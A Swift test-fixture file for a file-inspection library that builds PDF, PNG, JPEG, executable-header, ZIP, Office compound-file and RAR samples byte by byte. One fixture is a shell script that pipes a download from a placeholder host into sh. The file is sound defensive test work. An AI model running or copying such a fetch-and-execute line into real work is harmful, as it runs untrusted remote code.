import Foundation

@testable import PrakatCore

/// Files assembled byte by byte, so every test shows what it feeds the inspector
/// and no binary fixture hides in the repository.
enum Fixture {
    // MARK: Little helpers

    static func le16(_ value: Int) -> [UInt8] { [UInt8(value & 0xFF), UInt8(value >> 8 & 0xFF)] }
    static func le32(_ value: Int) -> [UInt8] { (0..<4).map { UInt8(value >> (8 * $0) & 0xFF) } }
    static func le64(_ value: Int) -> [UInt8] { (0..<8).map { UInt8(value >> (8 * $0) & 0xFF) } }
    static func be32(_ value: Int) -> [UInt8] { le32(value).reversed() }
    static func ascii(_ text: String) -> [UInt8] { Array(text.utf8) }

    static func crc32<C: Collection<UInt8>>(_ bytes: C) -> Int {
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in bytes {
            crc ^= UInt32(byte)
            for _ in 0..<8 { crc = crc & 1 != 0 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1 }
        }
        return Int(crc ^ 0xFFFF_FFFF)
    }

    // MARK: Simple formats

    static let pdf = ascii(
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")

    /// A PDF of exactly `size` bytes: the header, comment padding, then the end marker.
    static func pdf(size: Int) -> [UInt8] {
        let head = ascii("%PDF-1.4\n%"), tail = ascii("\n%%EOF\n")
        return head + [UInt8](repeating: 0x41, count: size - head.count - tail.count) + tail
    }

    static func pngChunk(_ type: String, _ data: [UInt8]) -> [UInt8] {
        let typed = ascii(type) + data
        return be32(data.count) + typed + be32(crc32(typed))
    }

    /// A 1×1 grey PNG.
    static let png: [UInt8] =
        Signature.png
        + pngChunk("IHDR", be32(1) + be32(1) + [8, 0, 0, 0, 0])
        + pngChunk("IDAT", [0x78, 0x9C, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01])
        + pngChunk("IEND", [])

    static let jpeg: [UInt8] =
        [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + ascii("JFIF") + [0, 1, 1, 0, 0, 1, 0, 1, 0, 0]
        + [0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00, 0x12, 0x34, 0xFF, 0xD9]

    /// A 64-byte DOS header with "PE" further on: what every Windows program starts with.
    static let windowsProgram: [UInt8] = ascii("MZ") + [UInt8](repeating: 0x90, count: 58) + le32(64) + ascii("PE\0\0") + [UInt8](repeating: 0, count: 60)
    static let linuxProgram: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56)
    static let macProgram: [UInt8] = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1] + [UInt8](repeating: 0, count: 56)
    static let shellScript = ascii("#!/bin/sh\ncurl http://example.invalid/x | sh\n")

    // MARK: ZIP

    struct ZipEntry {
        var name: String
        var data: [UInt8] = ascii("hello")
        var rawName: [UInt8]?
        var method = 0
        var flags: Int?
        var declaredUncompressedSize: Int?
        var madeBy = 20
        var externalAttributes = 0
        var centralExtra: [UInt8] = []
        var localName: [UInt8]?

        var nameBytes: [UInt8] { rawName ?? Array(name.utf8) }
    }

    struct BuiltZip {
        var bytes: [UInt8]
        var localOffsets: [Int]
        var centralOffsets: [Int]
        var endOffset: Int
    }

    /// A ZIP with the entries' data stored as given, a central directory and an end record.
    static func buildZip(_ entries: [ZipEntry], comment: [UInt8] = []) -> BuiltZip {
        var bytes: [UInt8] = []
        var locals: [Int] = []
        for entry in entries {
            locals.append(bytes.count)
            let flags = entry.flags ?? (entry.nameBytes.allSatisfy { $0 < 0x80 } ? 0 : 0x0800)
            let localName = entry.localName ?? entry.nameBytes
            bytes += Signature.zipLocalHeader + le16(20) + le16(flags) + le16(entry.method) + le16(0) + le16(0x5A21)
            bytes += le32(crc32(entry.data)) + le32(entry.data.count) + le32(entry.declaredUncompressedSize ?? entry.data.count)
            bytes += le16(localName.count) + le16(0) + localName + entry.data
        }
        let directoryStart = bytes.count
        var centrals: [Int] = []
        for (entry, local) in Swift.zip(entries, locals) {
            centrals.append(bytes.count)
            let flags = entry.flags ?? (entry.nameBytes.allSatisfy { $0 < 0x80 } ? 0 : 0x0800)
            bytes += [0x50, 0x4B, 0x01, 0x02] + le16(entry.madeBy) + le16(20) + le16(flags) + le16(entry.method) + le16(0) + le16(0x5A21)
            bytes += le32(crc32(entry.data)) + le32(entry.data.count) + le32(entry.declaredUncompressedSize ?? entry.data.count)
            bytes += le16(entry.nameBytes.count) + le16(entry.centralExtra.count) + le16(0) + le16(0) + le16(0)
            bytes += le32(entry.externalAttributes) + le32(local) + entry.nameBytes + entry.centralExtra
        }
        let end = bytes.count
        bytes += Signature.zipEndOfDirectory + le16(0) + le16(0) + le16(entries.count) + le16(entries.count)
        bytes += le32(end - directoryStart) + le32(directoryStart) + le16(comment.count) + comment
        return BuiltZip(bytes: bytes, localOffsets: locals, centralOffsets: centrals, endOffset: end)
    }

    static func zip(_ entries: [ZipEntry], comment: [UInt8] = []) -> [UInt8] { buildZip(entries, comment: comment).bytes }
    static func zip(names: [String], comment: [UInt8] = []) -> [UInt8] { zip(names.map { ZipEntry(name: $0) }, comment: comment) }

    static let contentTypes = ZipEntry(
        name: "[Content_Types].xml", data: ascii("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"))
    static let rootRelationships = ZipEntry(name: "_rels/.rels", data: ascii("<?xml version=\"1.0\"?><Relationships/>"))

    static func docx(extra: [ZipEntry] = []) -> [UInt8] {
        zip([contentTypes, rootRelationships, ZipEntry(name: "word/document.xml", data: ascii("<w:document/>"))] + extra)
    }

    static func xlsx(extra: [ZipEntry] = []) -> [UInt8] {
        zip(
            [
                contentTypes, rootRelationships, ZipEntry(name: "xl/workbook.xml", data: ascii("<workbook/>")),
                ZipEntry(name: "xl/worksheets/sheet1.xml", data: ascii("<worksheet/>"))
            ] + extra)
    }

    // MARK: OLE2 compound file

    struct OLE2Entry {
        var name: String
        var type: UInt8 = 2  // 1 storage, 2 stream
        /// Contents of 4096 bytes or more are laid out in sectors; smaller ones only set the size.
        var content: [UInt8] = []
        var size = 100
    }

    /// A version 3 compound file: header, one FAT sector, the directory, then large streams.
    static func ole2(_ entries: [OLE2Entry], rootClassID: [UInt8] = [UInt8](repeating: 0, count: 16)) -> [UInt8] {
        let sector = 512, endOfChain = 0xFFFF_FFFE, free = 0xFFFF_FFFF
        let directoryEntries = 1 + entries.count
        let directorySectors = (directoryEntries + 3) / 4
        var fat: [Int] = [0xFFFF_FFFD]  // sector 0 holds the FAT itself
        for index in 0..<directorySectors { fat.append(index == directorySectors - 1 ? endOfChain : fat.count + 1) }
        var starts: [Int] = []
        var streamSectors: [[UInt8]] = []
        for entry in entries {
            guard entry.content.count >= 4096 else { starts.append(0); continue }
            starts.append(fat.count)
            let count = (entry.content.count + sector - 1) / sector
            for index in 0..<count {
                fat.append(index == count - 1 ? endOfChain : fat.count + 1)
                let chunk = Array(entry.content[(index * sector)..<min(entry.content.count, (index + 1) * sector)])
                streamSectors.append(chunk + [UInt8](repeating: 0, count: sector - chunk.count))
            }
        }
        fat += [Int](repeating: free, count: sector / 4 - fat.count)

        var header = Signature.ole2 + [UInt8](repeating: 0, count: 16) + le16(0x3E) + le16(3) + le16(0xFFFE) + le16(9) + le16(6)
        header += [UInt8](repeating: 0, count: 6) + le32(0) + le32(1) + le32(1) + le32(0) + le32(4096)
        header += le32(endOfChain) + le32(0) + le32(endOfChain) + le32(0) + le32(0)
        header += (1..<109).flatMap { _ in le32(free) }

        // The root's child is entry 1 and each entry's right sibling the next one: a valid, if
        // lopsided, tree that Office and other readers walk to find every entry.
        func directoryEntry(_ name: String, type: UInt8, classID: [UInt8], start: Int, size: Int, rightSibling: Int, child: Int) -> [UInt8] {
            let units = Array(name.utf16)
            var entry = units.flatMap { le16(Int($0)) } + le16(0)
            entry += [UInt8](repeating: 0, count: 64 - entry.count)
            entry += le16((units.count + 1) * 2) + [type, 1] + le32(free) + le32(rightSibling) + le32(child)
            entry += classID + le32(0) + [UInt8](repeating: 0, count: 16) + le32(start) + le32(size) + le32(0)
            return entry
        }
        var directory = directoryEntry(
            "Root Entry", type: 5, classID: rootClassID, start: endOfChain, size: 0,
            rightSibling: free, child: entries.isEmpty ? free : 1)
        for (index, (entry, start)) in Swift.zip(entries, starts).enumerated() {
            let size = entry.content.count >= 4096 ? entry.content.count : entry.size
            directory += directoryEntry(
                entry.name, type: entry.type, classID: [UInt8](repeating: 0, count: 16), start: start,
                size: entry.type == 2 ? size : 0, rightSibling: index + 1 < entries.count ? index + 2 : free, child: free)
        }
        directory += [UInt8](repeating: 0, count: directorySectors * sector - directory.count)
        return header + fat.flatMap { le32($0) } + directory + streamSectors.flatMap { $0 }
    }

    static let wordDocument = ole2([OLE2Entry(name: "WordDocument", size: 2000), OLE2Entry(name: "1Table"), OLE2Entry(name: "\u{5}SummaryInformation")])
    static let excelWorkbook = ole2([OLE2Entry(name: "Workbook", size: 3000), OLE2Entry(name: "\u{5}SummaryInformation")])

    /// A Word stream large enough to be read, whose File Information Block has fEncrypted set or not.
    static func wordDocument(encrypted: Bool) -> [UInt8] {
        let fib = le16(0xA5EC) + le16(0xC1) + le16(0) + le16(0) + le16(0) + le16(encrypted ? 0x0100 : 0)
        return ole2([OLE2Entry(name: "WordDocument", content: fib + [UInt8](repeating: 0, count: 4096 - fib.count)), OLE2Entry(name: "1Table")])
    }

    /// A Workbook stream large enough to be read: BOF, then FILEPASS when encrypted.
    static func excelWorkbook(encrypted: Bool) -> [UInt8] {
        var records = le16(0x0809) + le16(16) + [UInt8](repeating: 0, count: 16)
        if encrypted { records += le16(0x002F) + le16(6) + [1, 0, 1, 0, 1, 0] }
        records += le16(0x0085) + le16(8) + [UInt8](repeating: 0, count: 8)
        return ole2([OLE2Entry(name: "Workbook", content: records + [UInt8](repeating: 0, count: 4096 - records.count))])
    }

    // MARK: RAR

    static func vint(_ value: Int) -> [UInt8] {
        var value = value, bytes: [UInt8] = []
        repeat {
            let low = UInt8(value & 0x7F)
            value >>= 7
            bytes.append(value > 0 ? low | 0x80 : low)
        } while value > 0
        return bytes
    }

    static func rar5Block(type: Int, fields: [UInt8], extra: [UInt8] = [], data: [UInt8] = []) -> [UInt8] {
        var flags = 0
        if !extra.isEmpty { flags |= 0x0001 }
        if !data.isEmpty { flags |= 0x0002 }
        var header = vint(type) + vint(flags)
        if !extra.isEmpty { header += vint(extra.count) }
        if !data.isEmpty { header += vint(data.count) }
        header += fields + extra
        let sized = vint(header.count) + header
        return le32(crc32(sized)) + sized + data
    }

    struct RarEntry {
        var name: String
        var data: [UInt8] = ascii("hello")
        var unpackedSize: Int?
        var isDirectory = false
        var extra: [UInt8] = []
    }

    static func rar5(_ entries: [RarEntry], archiveFlags: Int = 0) -> [UInt8] {
        var bytes = Signature.rar5 + rar5Block(type: 1, fields: vint(archiveFlags))
        for entry in entries {
            let name = Array(entry.name.utf8)
            let fields =
                vint(entry.isDirectory ? 0x0001 : 0x0004) + vint(entry.unpackedSize ?? (entry.isDirectory ? 0 : entry.data.count)) + vint(0x20)
                + (entry.isDirectory ? [] : le32(crc32(entry.data))) + vint(0) + vint(0) + vint(name.count) + name
            bytes += rar5Block(type: 2, fields: fields, extra: entry.extra, data: entry.isDirectory ? [] : entry.data)
        }
        return bytes + rar5Block(type: 5, fields: vint(0))
    }

    /// RAR 5 with encrypted headers: after the signature, only the encryption header is readable.
    static let rar5EncryptedHeaders = Signature.rar5 + rar5Block(type: 4, fields: vint(0) + vint(0) + vint(15) + [UInt8](repeating: 7, count: 16))

    /// A RAR 4 block: CRC16 (the low half of the CRC32 of the rest of the header), then the header.
    static func rar4Block(_ header: [UInt8]) -> [UInt8] {
        le16(crc32(header) & 0xFFFF) + header
    }

    static func rar4(_ entries: [RarEntry]) -> [UInt8] {
        var bytes = Signature.rar4 + rar4Block([0x73] + le16(0) + le16(13) + [UInt8](repeating: 0, count: 6))
        for entry in entries {
            let name = Array(entry.name.utf8)
            let data = entry.isDirectory ? [] : entry.data
            let flags = 0x8000 | (entry.isDirectory ? 0x00E0 : 0)
            let header =
                [0x74] + le16(flags) + le16(32 + name.count)
                + le32(data.count) + le32(entry.unpackedSize ?? data.count) + [2] + le32(crc32(data)) + le32(0x5A21_0000)
                + [20, 0x30] + le16(name.count) + le32(entry.isDirectory ? 0x10 : 0x20) + name
            bytes += rar4Block(header) + data
        }
        return bytes + rar4Block([0x7B] + le16(0x4000) + le16(7))
    }
}
